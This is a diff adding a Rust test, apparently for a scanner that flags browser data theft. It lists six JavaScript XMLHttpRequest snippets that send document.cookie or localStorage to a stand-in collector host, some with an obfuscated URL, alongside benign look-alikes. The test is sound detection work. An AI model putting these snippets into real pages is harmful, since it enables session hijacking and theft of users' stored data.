@@ -72,3 +72,27 @@ fn storage_that_is_spread_is_read_whole() {
         ],
     );
 }
+
+#[test]
+fn cookies_leave_by_requests_that_are_opened_first() {
+    are_told_apart(
+        WalletOrProfile,
+        &[
+            "const x = new XMLHttpRequest(); x.open('POST', 'https://collector.invalid/'); x.send(document.cookie)",
+            "const x = new XMLHttpRequest(); x.open('POST', 'https://collector.invalid/', true); x.setRequestHeader('content-type', 'text/plain'); x.send('c=' + encodeURIComponent(document.cookie))",
+            "const x = new XMLHttpRequest(); x.open('POST', 'https://collector.invalid/'); x.send(JSON.stringify({ ...localStorage }))",
+            "const u = ['https:/', 'collector.invalid', 'c'].join('/'); var x = new window.XMLHttpRequest; x.open('POST', u); x.onload = () => {}; x.send(JSON.stringify({ c: document.cookie }))",
+            "function post(url, body) { const x = new XMLHttpRequest(); x.open('POST', url, true); x.send(body) } post('https://collector.invalid/', document.cookie)",
+            "var x = new XMLHttpRequest(); x.open('GET', 'https://collector.invalid/?c=' + document.cookie); x.send()",
+        ],
+        &[
+            "const x = new XMLHttpRequest(); x.open('POST', '/login'); x.send(document.cookie)",
+            "const x = new XMLHttpRequest(); x.open('POST', 'http://localhost:8080/login'); x.send(document.cookie)",
+            "module.exports = (url) => { const x = new XMLHttpRequest(); x.open('POST', url); x.send(document.cookie) }",
+            "const x = new XMLHttpRequest(); x.open('POST', '/login'); x.send(document.cookie); const y = new XMLHttpRequest(); y.open('GET', 'https://api.example'); y.send()",
+            "const x = new XMLHttpRequest(); x.open('GET', 'https://api.example'); x.setRequestHeader('cookie', document.cookie); x.send()",
+            "const m = document.cookie.match(/csrf=([^;]*)/); const x = new XMLHttpRequest(); x.open('POST', 'https://api.example'); x.setRequestHeader('x-csrf-token', m && m[1]); x.send('{}')",
+            "indexedDB; const x = new XMLHttpRequest(); x.open('POST', 'https://api.example'); x.send(localStorage.getItem('draft'))",
+        ],
+    );
+}
